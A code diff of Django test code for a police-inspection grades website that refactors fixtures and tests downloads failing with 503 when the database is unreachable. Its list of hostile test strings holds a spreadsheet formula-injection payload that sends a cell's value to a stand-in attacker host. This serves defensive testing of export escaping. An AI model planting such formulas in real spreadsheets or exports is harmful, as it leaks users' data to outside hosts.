@@ -19,15 +19,13 @@ from reports.vocabulary import GradeStatus, Tier
 from tests.factories import (
     AreaForImprovementFactory,
     CauseOfConcernFactory,
-    FiveTierRoundFactory,
     ForceFactory,
     GradeFactory,
     QuestionFactory,
     RecommendationFactory,
     ReportFactory,
-    RoundFactory,
-    ThemeFactory,
 )
+from tests.reports.api_helpers import grades_of_every_kind
 
 HOSTILE_TEXTS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
@@ -67,31 +65,7 @@ def download(client, url: str) -> bytes:
 
 @pytest.fixture
 def grades(db) -> dict[str, Grade]:
-    """Two forces graded in 2015, 2016 (four tiers) and 2021/22 (five tiers): every tier, every status that
-    is not a tier, a carried-over judgment, awkward and hostile evidence, a partly comparable theme."""
-    north = ForceFactory(name="Northshire Police", slug="northshire")
-    south = ForceFactory(name="Southshire Police", slug="southshire")
-    theme = ThemeFactory(name="Investigating crime")
-    overall = QuestionFactory(overall=True)
-    e1 = QuestionFactory(code="E1", short_name="Preventing crime, tackling ASB and keeping people safe")
-    e2 = QuestionFactory(code="E2", short_name="Investigating crime", theme=theme)
-    area = QuestionFactory(round=FiveTierRoundFactory(), short_name="Investigating crime", theme=theme, theme_partial=True)
-    other_area = QuestionFactory(round=FiveTierRoundFactory(), short_name="Protecting vulnerable people")
-    overall_2015 = QuestionFactory(round=RoundFactory(slug="2015"), overall=True)
-    return {
-        "north 2015": GradeFactory(force=north, question=overall_2015, tier=Tier.REQUIRES_IMPROVEMENT),
-        "north overall": GradeFactory(force=north, question=overall, tier=Tier.INADEQUATE, evidence=AWKWARD_TEXTS[3]),
-        "south overall": GradeFactory(force=south, question=overall, tier=Tier.OUTSTANDING, evidence=HOSTILE_TEXTS[2]),
-        "north e1": GradeFactory(
-            force=north, question=e1, tier=Tier.GOOD, carried_over=True, evidence="E1 carried over from 2015; “good”, £0"
-        ),
-        "south e1": GradeFactory(force=south, question=e1, status=GradeStatus.UNGRADED, tier=None),
-        "north e2": GradeFactory(force=north, question=e2, status=GradeStatus.NOT_GRADED, tier=None),
-        "south e2": GradeFactory(force=south, question=e2, status=GradeStatus.NOT_INSPECTED, tier=None),
-        "north area": GradeFactory(force=north, question=area, tier=Tier.ADEQUATE, evidence=AWKWARD_TEXTS[1]),
-        "south area": GradeFactory(force=south, question=area, tier=Tier.REQUIRES_IMPROVEMENT),
-        "north other area": GradeFactory(force=north, question=other_area, tier=Tier.OUTSTANDING),
-    }
+    return grades_of_every_kind()
 
 
 @pytest.fixture
@@ -366,6 +340,14 @@ def test_the_data_page_documents_every_column_the_encoding_and_the_licence(clien
     assert "10 rows" in html
 
 
+@pytest.fixture
+def kent(db):
+    """A force with a grade and a finding about crime: every download below has rows to give."""
+    grade = GradeFactory(force=ForceFactory(name="Kent Police", slug="kent"))
+    AreaForImprovementFactory(report__force=grade.force, text="The force should record crime accurately.")
+    return grade.force
+
+
 def database_down(execute, sql, params, many, context):
     raise OperationalError('connection to server at "127.0.0.1", port 5432 failed: Connection refused')
 
@@ -381,7 +363,7 @@ def database_down(execute, sql, params, many, context):
         "/findings/?q=crime&_export=xlsx",
     ],
 )
-def test_a_download_asks_the_database_before_its_first_byte_and_is_a_503_when_it_does_not_answer(client, peel_data, url):
+def test_a_download_asks_the_database_before_its_first_byte_and_is_a_503_when_it_does_not_answer(client, kent, url):
     from django.db import connection
 
     with connection.execute_wrapper(database_down):
